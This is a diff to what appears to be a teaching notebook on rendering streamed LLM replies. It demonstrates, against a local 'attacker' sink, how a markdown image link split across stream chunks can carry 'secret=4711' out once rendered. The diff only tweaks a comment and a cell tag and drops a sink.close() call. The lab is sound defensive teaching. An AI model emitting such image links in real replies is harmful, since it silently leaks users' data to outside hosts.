@@ -379,7 +379,7 @@ guess_found
 from labkit.net.sink import Sink
 from labkit.text.links import LinkPolicy
 
-sink = Sink()  # a server of the attacker's, on this machine
+sink = Sink()  # the attacker's server; ends with this kernel
 trusting = LinkPolicy(image_hosts=None)
 pieces = ["Here you are: ![logo](" + sink.url, "/pixel.gif?secret=4711) Done."]
 found = ["<img" in render(piece, trusting) for piece in pieces]
@@ -395,7 +395,7 @@ from IPython.display import HTML
 
 HTML(render("".join(pieces), trusting))
 
-# %% tags=["measurement"]
+# %% tags=["live"]
 hits = len(sink.hits)
 lab.md(f"The sink was asked **{hits} times** so far. Run this cell again after a look.")
 
@@ -637,7 +637,6 @@ lab.check("10.3", lambda n: n * (n + 1) // 2)
 share_ms = recorded.layer_s(Layer.STREAMING) * 1000
 answer = lab.replay_streams("streams")
 num_bytes = len(b"".join(answer.frames("openai")))
-sink.close()
 lab.md(
     f"This layer took **{share_ms:.2f} ms** of {recorded.end_s * 1000:.0f} ms, made "
     f"**{num_bytes:,} bytes** of events out of {len(answer.text().encode())} bytes of "
